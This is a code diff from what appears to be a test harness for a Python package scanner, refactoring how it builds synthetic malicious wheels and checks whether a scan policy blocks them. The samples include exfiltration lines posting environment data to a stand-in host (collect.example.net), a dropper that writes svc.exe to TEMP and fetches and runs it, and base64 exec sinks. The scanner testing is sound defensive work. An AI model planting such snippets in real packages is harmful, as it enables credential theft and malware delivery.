@@ -319,6 +319,22 @@ def shapes(policy: ScanPolicy) -> dict[str, int]:
     return held
 
 
+def _judged_twice(policy: ScanPolicy, code: str) -> dict[str, tuple[bool, float]]:
+    """``code`` as a wheel's import-time code ("import") and in a function of a module the
+    package imports and never calls ("function"): whether the policy holds each, and its
+    score."""
+    function = "def run():\n" + _indented(code)
+    layouts = {
+        "import": {"quietlib/__init__.py": code},
+        "function": {"quietlib/__init__.py": "from .c import run\n", "quietlib/c.py": function},
+    }
+    judged = {}
+    for place, files in layouts.items():
+        report = scan_archive(wheel(files, name="quietlib"), "quietlib-1.0-py3-none-any.whl")
+        judged[place] = (not policy.decide(report).allowed, report.score)
+    return judged
+
+
 #: What a stealer takes (``--matrix``): an import line and an expression of the loot.
 LOOT = {
     "environment": ("import os", "dict(os.environ)"),
@@ -373,24 +389,14 @@ SENDERS = {
 
 
 def matrix(policy: ScanPolicy) -> dict[tuple[str, str, str], bool]:
-    """Whether each loot sent each way is held, as a wheel's import-time code ("import") and
-    in a function of a module the package imports and never calls ("function")."""
+    """Whether each loot sent each way is held, as import-time code ("import") and in a
+    function of a module the package imports and never calls ("function")."""
     held = {}
     for loot, (loot_import, taken) in LOOT.items():
         for sender, (send_import, send) in SENDERS.items():
             code = f"{loot_import}\n{send_import}\n" + send.format(loot=taken) + "\n"
-            function = "def run():\n" + _indented(code)
-            for place, files in (
-                ("import", {"quietlib/__init__.py": code}),
-                (
-                    "function",
-                    {"quietlib/__init__.py": "from .c import run\n", "quietlib/c.py": function},
-                ),
-            ):
-                report = scan_archive(
-                    wheel(files, name="quietlib"), "quietlib-1.0-py3-none-any.whl"
-                )
-                held[(loot, sender, place)] = not policy.decide(report).allowed
+            for place, (ok, _) in _judged_twice(policy, code).items():
+                held[(loot, sender, place)] = ok
     return held
 
 
@@ -473,30 +479,20 @@ STORES = {
 def stores(policy: ScanPolicy) -> tuple[int, list[str]]:
     """How many of ``STORES`` are held when posted (``requests.post``, and a session's
     ``post``) as import-time code and from a function nothing calls; the placements not."""
-    sends = (
-        "import requests\nrequests.post('https://collect.example.net/u', data={'d': str(LOOT)})",
-        "import requests\ns = requests.Session()\n"
+    sends = {
+        "post": "import requests\n"
+        "requests.post('https://collect.example.net/u', data={'d': str(LOOT)})",
+        "session": "import requests\ns = requests.Session()\n"
         "s.post('https://collect.example.net/u', files={'f': str(LOOT)})",
-    )
+    }
     held, missed = 0, []
     for name, taken in STORES.items():
-        for number, send in enumerate(sends):
+        for how, send in sends.items():
             code = "import os\n" + send.replace("LOOT", taken) + "\n"
-            function = "def run():\n" + _indented(code)
-            for place, files in (
-                ("import", {"quietlib/__init__.py": code}),
-                (
-                    "function",
-                    {"quietlib/__init__.py": "from .c import run\n", "quietlib/c.py": function},
-                ),
-            ):
-                report = scan_archive(
-                    wheel(files, name="quietlib"), "quietlib-1.0-py3-none-any.whl"
-                )
-                if policy.decide(report).allowed:
-                    missed.append(f"{name} ({'session' if number else 'post'}, {place})")
-                else:
-                    held += 1
+            for place, (ok, _) in _judged_twice(policy, code).items():
+                held += ok
+                if not ok:
+                    missed.append(f"{name} ({how}, {place})")
     return held, missed
 
 
@@ -535,22 +531,10 @@ def droppers(policy: ScanPolicy) -> tuple[int, list[str]]:
     head += "p = os.path.join(os.getenv('TEMP'), 'svc.exe')\n"
     for fetch_name, fetch in FETCHES.items():
         for run_name, run in RUNS.items():
-            code = f"{head}{fetch}\n{run}\n"
-            function = "def run():\n" + _indented(code)
-            for place, files in (
-                ("import", {"quietlib/__init__.py": code}),
-                (
-                    "function",
-                    {"quietlib/__init__.py": "from .c import run\n", "quietlib/c.py": function},
-                ),
-            ):
-                report = scan_archive(
-                    wheel(files, name="quietlib"), "quietlib-1.0-py3-none-any.whl"
-                )
-                if policy.decide(report).allowed:
-                    missed.append(f"{fetch_name} then {run_name} ({place}): {report.score:g}")
-                else:
-                    held += 1
+            for place, (ok, score) in _judged_twice(policy, f"{head}{fetch}\n{run}\n").items():
+                held += ok
+                if not ok:
+                    missed.append(f"{fetch_name} then {run_name} ({place}): {score:g}")
     return held, missed
 
 
@@ -587,19 +571,10 @@ def sinks(policy: ScanPolicy) -> tuple[int, list[str]]:
     held, missed = 0, []
     for name, way in EXEC_WAYS.items():
         code = "import base64\n" + way.replace("{payload}", payload) + "\n"
-        function = "def run():\n" + _indented(code)
-        for place, files in (
-            ("import", {"quietlib/__init__.py": code}),
-            (
-                "function",
-                {"quietlib/__init__.py": "from .c import run\n", "quietlib/c.py": function},
-            ),
-        ):
-            report = scan_archive(wheel(files, name="quietlib"), "quietlib-1.0-py3-none-any.whl")
-            if policy.decide(report).allowed:
-                missed.append(f"{name} ({place}): {report.score:g}")
-            else:
-                held += 1
+        for place, (ok, score) in _judged_twice(policy, code).items():
+            held += ok
+            if not ok:
+                missed.append(f"{name} ({place}): {score:g}")
     return held, missed
 
 
